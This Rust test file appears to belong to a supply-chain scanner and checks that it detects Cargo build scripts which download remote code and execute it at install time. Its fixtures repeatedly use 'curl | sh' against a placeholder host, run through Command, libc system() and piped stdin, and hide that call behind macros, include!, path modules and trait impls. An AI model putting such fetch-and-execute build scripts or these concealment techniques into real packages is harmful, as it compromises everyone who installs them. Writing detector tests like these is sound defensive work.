//! What build scripts run, however it is written.

mod builders;
mod crates;
mod language;

use crate::flow::testing::found;
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind, Zone};

const MANIFEST: &str = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
/// A function that runs what it fetches.
const GO: &str = "fn go() { std::process::Command::new(\"sh\").arg(\"-c\")\
                  .arg(\"curl -s https://a.invalid/x | sh\").status().unwrap(); }\n";

fn runs(entries: Vec<Entry>) -> bool {
    found(entries).flows.iter().any(|flow| {
        flow.source == SourceKind::Remote
            && flow.sink == SinkKind::Process
            && flow.zone == Zone::Install
    })
}

/// Whether a build script runs what it fetches by a function `go`.
fn built(code: &str) -> bool {
    built_with(&format!("{GO}{code}"), &[])
}

fn built_with(script: &str, more: &[(&str, &str)]) -> bool {
    let mut entries = vec![
        text_file("a-1.0.0/Cargo.toml", MANIFEST),
        text_file("a-1.0.0/build.rs", script),
        text_file("a-1.0.0/src/lib.rs", ""),
    ];
    let more = more.iter();
    entries.extend(more.map(|(path, text)| text_file(&format!("a-1.0.0/{path}"), text)));
    runs(entries)
}

#[test]
fn a_macro_of_the_script_does_what_it_stands_for() {
    for code in [
        "macro_rules! r { () => { go() }; }\nfn main() { r!(); }",
        "macro_rules! r { ($f:ident) => { $f() }; }\nfn main() { r!(go); }",
        "macro_rules! r { () => { 1 }; ($($t:tt)*) => { $($t)* }; }\nfn main() { r!(go();); }",
        "macro_rules! r { ($($f:ident),*) => { $($f();)* }; }\nfn main() { r!(go); }",
        "macro_rules! r { () => { fn main() { go(); } }; }\nr! {}",
        "macro_rules! r { ($n:ident) => { fn $n() { go(); } }; }\nr!(x);\nfn main() { x(); }",
        "macro_rules! print { ($($t:tt)*) => { { go(); std::print!($($t)*) } } }\nfn main() { print!(\"a\"); }",
        "macro_rules! a { ($e:expr) => { $e } }\nmacro_rules! r { () => { a!(go()) } }\nfn main() { r!(); }",
    ] {
        assert!(built(code), "{code}");
    }
    for code in [
        "macro_rules! r { () => { go() }; }\nfn main() {}",
        "macro_rules! r { (a) => { go() }; (b) => { 1 }; }\nfn main() { r!(b); }",
    ] {
        assert!(!built(code), "{code}");
    }
}

#[test]
fn code_that_a_macro_of_somebody_else_is_handed_runs() {
    for code in [
        "lazy_static! { static ref A: u8 = { go(); 1 }; }\nfn main() { let _ = *A; }",
        "thread_local! { static A: u8 = { go(); 1 }; }\nfn main() { A.with(|a| *a); }",
        "fn main() { cfg_if::cfg_if! { if #[cfg(unix)] { go(); } else { } } }",
    ] {
        assert!(built(code), "{code}");
    }
    assert!(!built("fn main() { let _ = quote! { go(); let a = 1; }; }"));
}

#[test]
fn text_that_is_included_is_code_whatever_it_is_called() {
    let main = "fn main() { go(); }";
    for (script, path) in [
        ("include!(\"x.txt\");", "x.txt"),
        (
            "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/x.txt\"));",
            "x.txt",
        ),
        ("include!(\"data/x\");", "data/x"),
        ("#[path = \"x.txt\"] mod m;\nuse m::go;", "x.txt"),
        ("#[path = \"x.txt\"] mod m;\nuse m::*;", "x.txt"),
    ] {
        assert!(
            built_with(&format!("{script}\n{main}"), &[(path, GO)]),
            "{script}"
        );
    }
    // One edge changed: the text is only read.
    let read = "fn main() { include_str!(\"x.txt\"); }";
    assert!(!built_with(read, &[("x.txt", GO)]));
}

#[test]
fn what_the_library_of_c_runs_is_a_command_line() {
    let line = |given: &str| {
        format!(
            "extern \"C\" {{ fn system(c: *const u8) -> i32; }}\n\
             fn main() {{ unsafe {{ system({given}); }} }}"
        )
    };
    for given in [
        "b\"curl -s https://a.invalid/x | sh\\0\".as_ptr()",
        "\"curl -s https://a.invalid/x | sh\\0\".as_ptr() as *const u8",
        "c\"curl -s https://a.invalid/x | sh\".as_ptr()",
        "std::ffi::CString::new(\"curl -s https://a.invalid/x | sh\").unwrap().as_ptr()",
    ] {
        assert!(built(&line(given)), "{given}");
    }
    assert!(!built(&line("b\"true\\0\".as_ptr()")));
    // One edge changed: it is a function of the script's own.
    assert!(!built(
        "fn system(c: &str) -> usize { c.len() }\n\
         fn main() { system(\"curl -s https://a.invalid/x | sh\"); }"
    ));
}

#[test]
fn methods_of_the_script_s_own_types_are_followed() {
    for code in [
        "struct A;\nimpl A { fn new() -> A { go(); A } }\nfn main() { let _a = A::new(); }",
        "struct A;\nimpl A { fn a() { go(); } fn b() { Self::a(); } }\nfn main() { A::b(); }",
        "mod m { pub struct A; impl A { pub fn f() { crate::go(); } } }\nfn main() { m::A::f(); }",
        "trait T { fn f(&self); }\nstruct A;\nimpl T for A { fn f(&self) { go(); } }\n\
         fn main() { let b: Box<dyn T> = Box::new(A); b.f(); }",
        "trait T { fn f(&self) { go(); } }\nstruct A;\nimpl T for A {}\nfn main() { A.f(); }",
        "trait T { fn f(&self); }\nstruct A;\nimpl T for A { fn f(&self) { go(); } }\n\
         fn g<X: T>(x: X) { x.f(); }\nfn main() { g(A); }",
        "trait T { fn f(); }\nstruct A;\nimpl T for A { fn f() { go(); } }\n\
         fn g<X: T>() { X::f(); }\nfn main() { g::<A>(); }",
        "trait T { fn f(&self); }\nstruct A;\nimpl T for A { fn f(&self) { go(); } }\n\
         fn main() { T::f(&A); }",
        "struct A { f: Box<dyn Fn()> }\nimpl A { fn run(&self) { (self.f)(); } }\n\
         fn main() { A { f: Box::new(|| go()) }.run(); }",
    ] {
        assert!(built(code), "{code}");
    }
    // One edge changed: it is the other type's.
    for code in [
        "trait T { fn f(&self); }\nstruct A;\nstruct B;\nimpl T for A { fn f(&self) { go(); } }\n\
         impl T for B { fn f(&self) {} }\nfn main() { B.f(); }",
        "struct A;\nimpl A { fn new() -> A { go(); A } }\nstruct B;\n\
         impl B { fn new() -> B { B } }\nfn main() { let _b = B::new(); }",
    ] {
        assert!(!built(code), "{code}");
    }
}

#[test]
fn what_the_language_calls_of_a_value_runs_where_it_is_made() {
    let of = |by: &str, body: &str, main: &str| {
        format!("struct A(u8);\nimpl {by} for A {{ {body} }}\nfn main() {{ {main} }}")
    };
    let drop = "fn drop(&mut self) { go(); }";
    let next = "type Item = u8; fn next(&mut self) -> Option<u8> { go(); None }";
    let from = "fn from(a: u8) -> A { go(); A(a) }";
    let parse = "type Err = (); fn from_str(a: &str) -> Result<A, ()> { go(); Ok(A(1)) }";
    assert!(built(&of("Drop", drop, "let _a = A(1);")));
    assert!(built(&of("Iterator", next, "for _ in A(1) {}")));
    assert!(built(&of("From<u8>", from, "let _a: A = 1u8.into();")));
    assert!(built(&of(
        "FromStr",
        parse,
        "let _a: A = \"a\".parse().unwrap();"
    )));
    // One edge changed: no such value is made.
    assert!(!built(&of("Drop", drop, "")));
    assert!(!built(&of("Iterator", next, "for _ in [1] {}")));
    assert!(!built(&of("From<u8>", from, "let _a: u16 = 1u8.into();")));
}

#[test]
fn a_module_beside_the_script_has_the_names_of_the_script_and_of_what_it_includes() {
    let script = "use std::process::Command;\n\
                  const LINE: &str = concat!(\"curl -s https://a.invalid/p\", \" | sh\");\n\
                  mod part;\nfn main() { part::run(); }";
    let part =
        "use super::*;\npub fn run() { Command::new(\"sh\").arg(\"-c\").arg(LINE).spawn(); }";
    assert!(built_with(script, &[("part.rs", part)]));
    let other = part.replace("arg(LINE)", "arg(OTHER)");
    assert!(!built_with(script, &[("part.rs", &other)]));
    let alone = part.replace("LINE", "\"curl -s https://a.invalid/p | sh\"");
    let alone = alone.replace("Command", "std::process::Command");
    let included = [
        ("part.rs", "include!(\"part.txt\");"),
        ("part.txt", alone.as_str()),
    ];
    assert!(built_with(script, &included));
    let named = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\")\
                 .arg(include_str!(\"line.txt\")).spawn(); }";
    assert!(built_with(
        named,
        &[("line.txt", "curl -s https://a.invalid/p | sh")]
    ));
    assert!(!built_with(named, &[("line.txt", "echo built")]));
}

#[test]
fn the_arm_of_a_match_that_does_not_leave_gives_its_value() {
    let file = "std::fs::write(\"/tmp/x\", r.into_string().unwrap()).unwrap();
        std::process::Command::new(\"sh\").arg(\"/tmp/x\").spawn().unwrap();";
    let runs_file = |arms: &str| {
        let code = format!(
            "fn main() {{ let r = match ureq::get(\"https://a.invalid/x\").call() {{ {arms} }}; {file} }}"
        );
        let flows = found(vec![
            text_file("a-1.0.0/Cargo.toml", MANIFEST),
            text_file("a-1.0.0/build.rs", &code),
        ])
        .flows;
        let mut flows = flows.iter();
        flows.any(|flow| {
            flow.source == SourceKind::Remote
                && matches!(flow.sink, SinkKind::ExecutedFile | SinkKind::Process)
        })
    };
    assert!(runs_file("Ok(r) => r, Err(_) => return"));
    assert!(runs_file(
        "Ok(r) => r, Err(e) => { eprintln!(\"{e}\"); std::process::exit(1) }"
    ));
    assert!(!runs_file("Ok(_) => other(), Err(_) => return"));
}

#[test]
fn what_a_builder_s_interpreter_reads_is_code_unless_it_has_a_file() {
    let fed = |more: &str, text: &str| {
        built_with(
            &format!(
                "use std::io::Write;
                 fn main() {{ if let Ok(mut c) = std::process::Command::new(\"sh\"){more}
                 .stdin(std::process::Stdio::piped()).spawn() {{
                 let _ = c.stdin.take().unwrap().write_all(b\"{text}\"); }} }}"
            ),
            &[],
        )
    };
    assert!(fed("", "curl -s https://a.invalid/x | sh"));
    assert!(!fed("", "echo 1"));
    assert!(!fed(
        ".arg(\"other.sh\")",
        "curl -s https://a.invalid/x | sh"
    ));
}
